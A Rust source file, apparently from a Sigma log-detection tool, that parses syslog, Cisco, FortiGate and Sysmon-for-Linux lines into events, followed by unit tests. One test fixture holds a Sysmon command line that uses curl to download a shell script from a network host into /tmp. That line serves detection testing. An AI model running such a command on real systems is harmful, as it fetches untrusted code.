//! Events as a Linux syslog file holds them (`/var/log/syslog`,
//! `auth.log`, `secure`, `journalctl` output, a collector's file), read by
//! Sigma's `product: linux` rules, which search them for keywords: a line
//! an event, known by its first line in one of the shapes syslog daemons
//! write:
//!
//! - `Mar  1 10:00:00 web1 sshd[812]: Failed password for root` (the
//!   traditional one, with no year);
//! - `2024-03-01T10:00:00.123456+00:00 web1 sshd[812]: ...` (rsyslog's
//!   high-precision one);
//! - `<34>1 2024-03-01T10:00:00Z web1 sshd 812 ID47 [sd@1 a="b"] ...`
//!   (RFC 5424), and either of the others after a `<PRI>` a collector kept.
//!
//! Its fields are `host`, `program`, `pid`, RFC 5424's `msgid` and
//! `structured_data` (when given) and `message`; a line in none of the
//! shapes (a message's continuation) is an event of its `message` alone.
//! The time is the line's, as written.
//!
//! A FortiGate record (`date=... time=... logid=... type="event" ...`),
//! alone, after a `<PRI>` or a header, is read as one ([`super::fortinet`]);
//! so is a Cisco device's message, known by its tag (`%SYS-5-CONFIG_I:`).
//!
//! A message that is an event in XML (Sysmon for Linux writes each of its
//! events so: `sysmon: <Event><System>...`) is that event, read as an XML
//! export of it is, with its own channel, time and fields, so that it meets
//! the rules of its channel and EventID as a Windows Sysmon event does.

use super::FileRead;
use super::event::{Event, EventMeta, Source};
use super::fortinet;
use super::json::Wanted;
use super::log_lines::{Tally, each_line, tell_partly_read};
use crate::diag::Diagnostic;
use std::io::BufRead;
use std::sync::Arc;

/// The parts of one line.
#[derive(Debug, PartialEq, Eq)]
struct Line<'l> {
    time: Option<&'l str>,
    host: Option<&'l str>,
    program: &'l str,
    pid: Option<&'l str>,
    /// RFC 5424's message ID and structured data, where given.
    msgid: Option<&'l str>,
    data: Option<&'l str>,
    message: &'l str,
}

const MONTHS: [&str; 12] = [
    "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
];

/// The length of a time at the start of `s` in either shape, if one is.
fn time_len(s: &str) -> Option<usize> {
    let b = s.as_bytes();
    let digit = |i: usize| b.get(i).is_some_and(u8::is_ascii_digit);
    let clock = |at: usize| {
        digit(at)
            && digit(at + 1)
            && b.get(at + 2) == Some(&b':')
            && digit(at + 3)
            && digit(at + 4)
            && b.get(at + 5) == Some(&b':')
            && digit(at + 6)
            && digit(at + 7)
    };
    // `Mar  1 10:00:00`
    if MONTHS.iter().any(|m| s.starts_with(m))
        && b.get(3) == Some(&b' ')
        && (digit(4) || b.get(4) == Some(&b' '))
        && digit(5)
        && b.get(6) == Some(&b' ')
        && clock(7)
    {
        return Some(15);
    }
    // `2024-03-01T10:00:00[.fraction](Z|+hh:mm)`
    let date = (0..4).all(digit) && b.get(4) == Some(&b'-') && digit(5) && digit(6);
    let date = date && b.get(7) == Some(&b'-') && digit(8) && digit(9);
    if !(date && b.get(10) == Some(&b'T') && clock(11)) {
        return None;
    }
    let rest = &s[19..];
    Some(19 + rest.find(' ').unwrap_or(rest.len()))
}

/// A line's parts, if it is in one of the shapes: a time, the host, then
/// `program[pid]:` or `program:`; or RFC 5424's. A priority a network
/// collector kept (`<13>`) comes first in any of them.
fn parse(text: &str) -> Option<Line<'_>> {
    let text = without_priority(text);
    if let Some(rest) = text.strip_prefix("1 ") {
        return parse_5424(rest);
    }
    let time_end = time_len(text)?;
    let rest = text[time_end..].strip_prefix(' ')?;
    let (host, rest) = rest.split_once(' ')?;
    let colon = rest
        .find(": ")
        .or_else(|| rest.ends_with(':').then(|| rest.len() - 1))?;
    let tag = &rest[..colon];
    if tag.is_empty() || tag.contains(' ') {
        return None;
    }
    let (program, pid) = match tag.strip_suffix(']').and_then(|t| t.split_once('[')) {
        Some((program, pid)) => (program, Some(pid)),
        None => (tag, None),
    };
    let message = rest.get(colon + 2..).unwrap_or_default();
    Some(Line {
        time: Some(&text[..time_end]),
        host: Some(host),
        program,
        pid,
        msgid: None,
        data: None,
        message,
    })
}

/// `text` past a `<PRI>` at its start.
fn without_priority(text: &str) -> &str {
    let Some(rest) = text.strip_prefix('<') else {
        return text;
    };
    match rest.find('>') {
        Some(end @ 1..=3) if rest[..end].bytes().all(|b| b.is_ascii_digit()) => &rest[end + 1..],
        _ => text,
    }
}

/// A part of an RFC 5424 line, `None` where `-` says it is not given.
fn given(part: &str) -> Option<&str> {
    (part != "-").then_some(part)
}

/// RFC 5424 past its version: `TIME HOST APP PROCID MSGID DATA MESSAGE`,
/// `-` where a part is not given.
fn parse_5424(rest: &str) -> Option<Line<'_>> {
    let (head, rest) = header_5424(rest)?;
    let (data, message) = structured_data(rest)?;
    Some(Line {
        data,
        message: message.strip_prefix('\u{feff}').unwrap_or(message),
        ..head
    })
}

/// RFC 5424's parts before its structured data, and the text from there.
fn header_5424(rest: &str) -> Option<(Line<'_>, &str)> {
    let mut parts = rest.splitn(6, ' ');
    let mut part = || parts.next().filter(|p| !p.is_empty());
    let (time, host, app, pid, msgid) = (part()?, part()?, part()?, part()?, part()?);
    if time != "-" && time_len(time) != Some(time.len()) {
        return None;
    }
    let head = Line {
        time: given(time),
        host: given(host),
        program: given(app).unwrap_or_default(),
        pid: given(pid),
        msgid: given(msgid),
        data: None,
        message: "",
    };
    Some((head, part().unwrap_or_default()))
}

/// RFC 5424's structured data at the start of `text` (`-`, or elements
/// `[id name="value" ...]`, a `\]` or `\"` in a value escaped), and the
/// message after it.
fn structured_data(text: &str) -> Option<(Option<&str>, &str)> {
    let after = |at: usize| text[at..].strip_prefix(' ').unwrap_or(&text[at..]);
    if text.starts_with('-') {
        return Some((None, after(1)));
    }
    let mut end = 0;
    while text[end..].starts_with('[') {
        let (mut quoted, mut escaped) = (false, false);
        let close = text[end..].char_indices().find(|&(_, c)| {
            let closes = c == ']' && !quoted && !escaped;
            quoted ^= c == '"' && !escaped;
            escaped = c == '\\' && !escaped;
            closes
        })?;
        end += close.0 + 1;
    }
    (end > 0).then(|| (Some(&text[..end]), after(end)))
}

/// Where `text` holds a Cisco message tag, `%FACILITY-SEVERITY-MNEMONIC:`
/// (IOS and NX-OS `%SYS-5-CONFIG_I:`, ASA `%ASA-6-302013:`, IOS XR
/// `%MGBL-CONFIG-6-DB_COMMIT :`): the position of its `%`.
fn cisco_tag(text: &str) -> Option<usize> {
    text.match_indices('%').map(|(at, _)| at).find(|&at| {
        let rest = &text[at + 1..];
        let end = rest
            .find(|c: char| !(c.is_ascii_uppercase() || c.is_ascii_digit() || "_-".contains(c)))
            .unwrap_or(rest.len());
        is_tag(&rest[..end]) && rest[end..].trim_start_matches(' ').starts_with(':')
    })
}

/// `FACILITY-SEVERITY-MNEMONIC`, the facility of one part or more (IOS
/// XR's `MGBL-CONFIG`), the severity a digit from 0 to 7.
fn is_tag(tag: &str) -> bool {
    let mut parts = tag.rsplitn(3, '-');
    let (mnemonic, severity, facility) = (parts.next(), parts.next(), parts.next());
    let severity = severity.is_some_and(|s| matches!(s.as_bytes(), [b'0'..=b'7']));
    let facility = facility.is_some_and(|f| f.split('-').all(|p| !p.is_empty()));
    severity && facility && mnemonic.is_some_and(|m| !m.is_empty())
}

/// Whether a line is a Cisco device's message as the device sends it,
/// before a collector adds its header (`*Mar  1 00:03:47.535: %SYS-5-...`,
/// `172.16.5.10 6705: Feb 17 13:40:03.673: %PARSER-5-...`): a tag after
/// nothing but sequence numbers, addresses and times.
fn is_cisco_line(line: &str) -> bool {
    let header = |c: char| c.is_ascii_alphanumeric() || " .:*-".contains(c);
    cisco_tag(line).is_some_and(|at| line[..at].chars().all(header))
}

/// Whether a text starting with `head` is a syslog file: its first line
/// in one of the shapes. A first line longer than `head` is judged by its
/// start: cut inside a character, or inside RFC 5424's structured data.
pub(super) fn is_syslog(head: &[u8]) -> bool {
    let (line, cut) = match memchr::memchr(b'\n', head) {
        Some(end) => (&head[..end], false),
        None => (head, true),
    };
    let line = String::from_utf8_lossy(line.strip_suffix(b"\r").unwrap_or(line));
    let rfc_5424_start = || {
        let rest = without_priority(&line).strip_prefix("1 ");
        rest.and_then(header_5424).is_some()
    };
    let parsed = parse(&line);
    parsed.is_some()
        || (cut && rfc_5424_start())
        || is_cisco_line(&line)
        || fortinet_record(&line, parsed.as_ref()).is_some()
}

/// A FortiGate record a line holds, with the host of its syslog header:
/// alone, after a `<PRI>` (as the device sends it), after a header without
/// a program (`Mar 22 09:42:00 10.0.0.1 date=...`, as rsyslog writes it),
/// or as a program's message.
fn fortinet_record<'t>(
    text: &'t str,
    line: Option<&Line<'t>>,
) -> Option<(Option<&'t str>, &'t str)> {
    let bare = without_priority(text);
    if fortinet::is_record(bare) {
        return Some((None, bare));
    }
    if let Some(l) = line.filter(|l| fortinet::is_record(l.message)) {
        return Some((l.host, l.message));
    }
    let time_end = time_len(bare)?;
    let (host, record) = bare[time_end..].strip_prefix(' ')?.split_once(' ')?;
    fortinet::is_record(record).then_some((Some(host), record))
}

/// Read the lines of a syslog file, each an event handed to `sink`.
pub(super) fn read(
    input: impl BufRead,
    file: &Arc<str>,
    wanted: Option<&Wanted>,
    report: &dyn Fn(Diagnostic),
    sink: &mut dyn FnMut(Event),
) -> FileRead {
    let mut read = FileRead::default();
    let mut not_utf8 = Tally::default();
    let mut xml_cut = Tally::default();
    let keeps = |k: &str| wanted.is_none_or(|w| w.keeps(k));
    read.lost += each_line(input, report, |no, bytes| {
        let text = String::from_utf8_lossy(bytes);
        if matches!(text, std::borrow::Cow::Owned(_)) {
            not_utf8.add(no);
        }
        let line = parse(&text);
        let meta = EventMeta {
            file: file.clone(),
            record: no,
            ..Default::default()
        };
        let fortinet = fortinet_record(&text, line.as_ref());
        let xml = line
            .as_ref()
            .filter(|l| fortinet.is_none() && l.message.starts_with("<Event"));
        let sysmon = xml.and_then(|l| super::xml::whole_event(l.message, file, no, wanted));
        if xml.is_some() && sysmon.is_none() {
            xml_cut.add(no);
        }
        let e = match sysmon {
            Some(e) => e,
            None => {
                let mut e = match fortinet {
                    Some((host, record)) => fortinet::event(meta, record, host, &keeps),
                    None => line_event(meta, line.as_ref(), &text, &keeps),
                };
                e.finish();
                e
            }
        };
        tell_partly_read(&e, no, report);
        sink(e);
        read.events += 1;
    });
    not_utf8.tell_not_utf8(report);
    let cut = "held an event in XML that is not whole or not valid (a syslog daemon cuts a longer message at its size limit, 8 KiB by default for rsyslog): each is read as a syslog line, its message the XML";
    xml_cut.tell(false, cut, report);
    read
}

/// A line's event: its parts as fields (those the rules read), or, in no
/// shape, its text as the message.
fn line_event(
    mut meta: EventMeta,
    line: Option<&Line>,
    text: &str,
    keeps: &dyn Fn(&str) -> bool,
) -> Event {
    let Some(l) = line else {
        meta.source = Some(source("", text));
        let message = keeps("message").then_some(("message", text));
        return Event::of_texts(meta, text.len() * 2, message);
    };
    meta.timestamp = l.time.map(str::to_string);
    meta.computer = l.host.map(str::to_string);
    meta.source = Some(source(l.program, text));
    let fields = [
        ("host", l.host),
        ("program", Some(l.program).filter(|p| !p.is_empty())),
        ("pid", l.pid),
        ("msgid", l.msgid),
        ("structured_data", l.data),
        ("message", Some(l.message)),
    ];
    let kept = fields
        .into_iter()
        .filter_map(|(name, value)| Some((name, value.filter(|_| keeps(name))?)));
    Event::of_texts(meta, text.len() * 2, kept)
}

/// What a line is: a Cisco device's message, or a Linux program's.
fn source(program: &str, line: &str) -> Source {
    match cisco_tag(line) {
        Some(_) => Source::Cisco,
        None => Source::Syslog(Arc::from(program)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_cisco_message_is_known_by_its_tag_with_or_without_a_header() {
        for tagged in [
            "%SYS-5-CONFIG_I: Configured from console",
            "x %ASA-6-302013: Built inbound TCP connection",
            "%MGBL-CONFIG-6-DB_COMMIT : Configuration committed",
        ] {
            assert!(cisco_tag(tagged).is_some(), "{tagged}");
        }
        for not in [
            "50% done",
            "%SYS-9-X: severity 9",
            "%SYS-5: no mnemonic",
            "%sys-5-x: lower",
        ] {
            assert!(cisco_tag(not).is_none(), "{not}");
        }
        let raw = "172.16.5.10 6705: Feb 17 13:40:03.673: %PARSER-5-CFGLOG_LOGGEDCMD: User:admin";
        assert!(is_syslog(raw.as_bytes()));
        assert!(is_syslog(
            b"*Mar  1 00:03:47.535: %SYS-5-CONFIG_I: Configured\n"
        ));
        // A JSON or XML text that holds a tag is no device's line.
        assert!(!is_syslog(br#"{"m": "%SYS-5-CONFIG_I: x"}"#));
        assert!(!is_syslog(b"<Event>%SYS-5-CONFIG_I: x</Event>"));
        let text = format!(
            "{raw}\nMar  1 10:00:00 r1 %SYS-5-CONFIG_I: Configured\nMar  1 10:00:01 web1 sshd[1]: ok\n"
        );
        let mut got = Vec::new();
        read(
            text.as_bytes(),
            &Arc::from("r.log"),
            None,
            &|_| {},
            &mut |e| got.push(e),
        );
        let sources: Vec<_> = got.iter().map(|e| e.meta.source.clone()).collect();
        let sshd = Source::Syslog("sshd".into());
        assert_eq!(
            sources,
            [Some(Source::Cisco), Some(Source::Cisco), Some(sshd)]
        );
    }

    #[test]
    fn a_fortigate_record_is_known_alone_after_a_priority_or_a_header() {
        let record = r#"date=2025-04-10 time=05:01:53 devname="FG1" logid="0100044547" type="event" action="Add" cfgpath="user.local" msg="a: b""#;
        let lines = [
            record.to_string(),
            format!("<189>{record}"),
            format!("Apr 10 05:01:53 10.0.0.1 {record}"),
            format!("<189>1 2025-04-10T05:01:53Z 10.0.0.1 - - - - {record}"),
        ];
        for line in &lines {
            assert!(is_syslog(line.as_bytes()), "{line}");
        }
        let text = format!("{}\nMar  1 10:00:01 web1 sshd[1]: ok\n", lines.join("\n"));
        let mut got = Vec::new();
        let file = Arc::from("fw.log");
        read(text.as_bytes(), &file, None, &|_| {}, &mut |e| got.push(e));
        let fortigate = Some(Source::Fortinet("event".into()));
        let sources: Vec<_> = got.iter().map(|e| e.meta.source.clone()).collect();
        let sshd = Some(Source::Syslog("sshd".into()));
        assert_eq!(
            sources,
            [&fortigate, &fortigate, &fortigate, &fortigate, &sshd].map(Clone::clone)
        );
        for e in &got[..4] {
            assert_eq!(e.text("cfgpath"), Some("user.local"));
            assert_eq!(e.text("msg"), Some("a: b"));
            assert_eq!(e.meta.computer.as_deref(), Some("FG1"));
        }
        // A line that only starts like one is a syslog line as before.
        let near = "Apr 10 05:01:53 fw1 app: date=2025-04-10 time=05:01:53 no id";
        let mut got = Vec::new();
        read(near.as_bytes(), &file, None, &|_| {}, &mut |e| got.push(e));
        assert_eq!(got[0].meta.source, Some(Source::Syslog("app".into())));
        assert!(!is_syslog(b"<189>date=2025-04-10 time=05:01:53 level=info"));
    }

    #[test]
    fn each_shape_gives_host_program_pid_and_message() {
        assert_eq!(
            parse("Mar  1 10:00:00 web1 sshd[812]: Failed password for root from 203.0.113.9"),
            Some(Line {
                time: Some("Mar  1 10:00:00"),
                host: Some("web1"),
                program: "sshd",
                pid: Some("812"),
                msgid: None,
                data: None,
                message: "Failed password for root from 203.0.113.9",
            })
        );
        let iso = parse("2024-03-01T10:00:00.123456+00:00 web1 CRON[7]: (root) CMD (id)").unwrap();
        assert_eq!(
            (iso.time, iso.program, iso.message),
            (
                Some("2024-03-01T10:00:00.123456+00:00"),
                "CRON",
                "(root) CMD (id)"
            )
        );
        let bare = parse("<13>Dec 24 23:59:59 db kernel: Out of memory").unwrap();
        assert_eq!(
            (bare.program, bare.pid),
            ("kernel", None),
            "a priority first"
        );
        assert_eq!(
            parse(
                "<34>1 2024-03-01T10:00:00.003Z fw1 su 4242 ID47 [exampleSDID@32473 iut=\"3\" note=\"a \\] b\"][x@1 y=\"z\"] \u{feff}'su root' failed"
            ),
            Some(Line {
                time: Some("2024-03-01T10:00:00.003Z"),
                host: Some("fw1"),
                program: "su",
                pid: Some("4242"),
                msgid: Some("ID47"),
                data: Some("[exampleSDID@32473 iut=\"3\" note=\"a \\] b\"][x@1 y=\"z\"]"),
                message: "'su root' failed",
            }),
            "RFC 5424"
        );
        let nil = parse("<165>1 - - - - - -").unwrap();
        assert_eq!(
            (nil.time, nil.host, nil.program, nil.message),
            (None, None, "", "")
        );
        for not in [
            "Mar 1 10:00:00 web1 sshd: x",
            "# a comment",
            "{\"a\": 1}",
            "Mar  1 10:00:00 web1 no colon here",
            "<34>1 yesterday fw1 su - - - x",
            "<34>1 2024-03-01T10:00:00Z fw1 su - - [unclosed x",
        ] {
            assert_eq!(parse(not), None, "{not}");
        }
    }

    #[test]
    fn a_first_line_longer_than_the_head_read_is_judged_by_its_start() {
        let long = |start: &str| format!("{start}{}", "é".repeat(300)).into_bytes();
        // Cut inside a character, and inside structured data.
        let traditional = long("Mar  1 10:00:00 web1 sshd[812]: ");
        assert!(is_syslog(&traditional[..512]));
        let rfc_5424 = long("<34>1 2024-03-01T10:00:00Z fw1 su - - [sd@1 note=\"");
        assert!(is_syslog(&rfc_5424[..512]));
        // A first line not in UTF-8 is still one.
        assert!(is_syslog(b"Mar  1 10:00:00 web1 kernel: caf\xe9\n"));
        // A line cut short that is whole is judged whole.
        assert!(!is_syslog(
            b"<34>1 2024-03-01T10:00:00Z fw1 su - - [sd@1 x\n"
        ));
        assert!(!is_syslog(&long("Mar  1 10:00:00 no tag here ")[..512]));
    }

    #[test]
    fn every_line_is_an_event_in_either_shape_or_not() {
        let text = "Mar  1 10:00:00 web1 sshd[812]: Accepted publickey for alice\n\
                    \tcontinued line\n\
                    Mar  1 10:00:01 web1 sudo: alice : TTY=pts/0 ; COMMAND=/bin/sh\n";
        assert!(is_syslog(text.as_bytes()));
        let mut got = Vec::new();
        let file = Arc::from("auth.log");
        let read = read(text.as_bytes(), &file, None, &|_| {}, &mut |e| got.push(e));
        assert_eq!((read.events, read.lost), (3, 0));
        assert_eq!(got[0].text("program"), Some("sshd"));
        assert_eq!(got[0].meta.computer.as_deref(), Some("web1"));
        assert_eq!(got[1].text("message"), Some("\tcontinued line"));
        assert_eq!(
            got[2].text("message"),
            Some("alice : TTY=pts/0 ; COMMAND=/bin/sh")
        );
        assert_eq!(got[2].meta.source, Some(Source::Syslog("sudo".into())));
    }

    #[test]
    fn a_sysmon_for_linux_line_is_its_event_and_a_cut_one_a_syslog_line() {
        let event = r#"<Event><System><Provider Name="Linux-Sysmon" Guid="{ff032593-a8d3-4f13-b0d6-01fc615a0f97}"/><EventID>1</EventID><TimeCreated SystemTime="2022-11-24T08:30:01.467399000Z"/><EventRecordID>75097</EventRecordID><Channel>Linux-Sysmon/Operational</Channel><Computer>ip-172-31-60-25</Computer><Security UserId="0"/></System><EventData><Data Name="Image">/usr/bin/curl</Data><Data Name="CommandLine">curl -s http://10.0.0.5/x.sh -o /tmp/x.sh &amp;&amp; id</Data></EventData></Event>"#;
        let line = format!("Nov 24 08:30:01 ip-172-31-60-25 sysmon: {event}");
        let cut = &line[..line.len() - 40];
        let text =
            format!("Nov 24 08:29:59 ip-172-31-60-25 systemd[1]: Started Sysmon.\n{line}\n{cut}\n");
        let mut got = Vec::new();
        let said = std::cell::RefCell::new(Vec::new());
        let file = Arc::from("syslog");
        let report = |d: Diagnostic| said.borrow_mut().push((d.line, d.to_string()));
        let read = read(text.as_bytes(), &file, None, &report, &mut |e| got.push(e));
        assert_eq!((read.events, read.lost), (3, 0));
        let e = &got[1];
        assert_eq!(
            (e.text("Image"), e.text("CommandLine"), e.text("EventID")),
            (
                Some("/usr/bin/curl"),
                Some("curl -s http://10.0.0.5/x.sh -o /tmp/x.sh && id"),
                Some("1")
            )
        );
        let m = &e.meta;
        assert_eq!(
            (
                m.record,
                m.channel.as_deref(),
                m.timestamp.as_deref(),
                m.source.as_ref()
            ),
            (
                2,
                Some("Linux-Sysmon/Operational"),
                Some("2022-11-24T08:30:01.467399000Z"),
                None
            ),
            "its line, and the event's own channel and time"
        );
        assert_eq!(e.text("message"), None);
        let cut_one = &got[2];
        assert_eq!(cut_one.text("message"), Some(&cut[40..]));
        assert_eq!(cut_one.meta.source, Some(Source::Syslog("sysmon".into())));
        assert_eq!(
            said.into_inner(),
            [(Some(3), "warning[events]: 1 line(s) held an event in XML that is not whole or not valid (a syslog daemon cuts a longer message at its size limit, 8 KiB by default for rsyslog): each is read as a syslog line, its message the XML (the first on this line)".to_string())]
        );
    }

    #[test]
    fn a_sysmon_line_nested_deeper_than_read_says_what_was_left_out() {
        let deep = format!("{}x{}", "<a>".repeat(40), "</a>".repeat(40));
        let line = format!(
            "Nov 24 08:30:01 h sysmon: <Event><System><EventID>1</EventID><Channel>Linux-Sysmon/Operational</Channel></System><UserData>{deep}</UserData><EventData><Data Name=\"Image\">/usr/bin/id</Data></EventData></Event>\n"
        );
        let said = std::cell::RefCell::new(Vec::new());
        let report = |d: Diagnostic| said.borrow_mut().push((d.line, d.message));
        let mut got = Vec::new();
        let read = read(
            line.as_bytes(),
            &Arc::from("syslog"),
            None,
            &report,
            &mut |e| got.push(e),
        );
        assert_eq!(
            (read.events, got[0].text("Image")),
            (1, Some("/usr/bin/id"))
        );
        assert_eq!(
            said.into_inner(),
            [(Some(1), super::super::json::too_deep())]
        );
    }
}
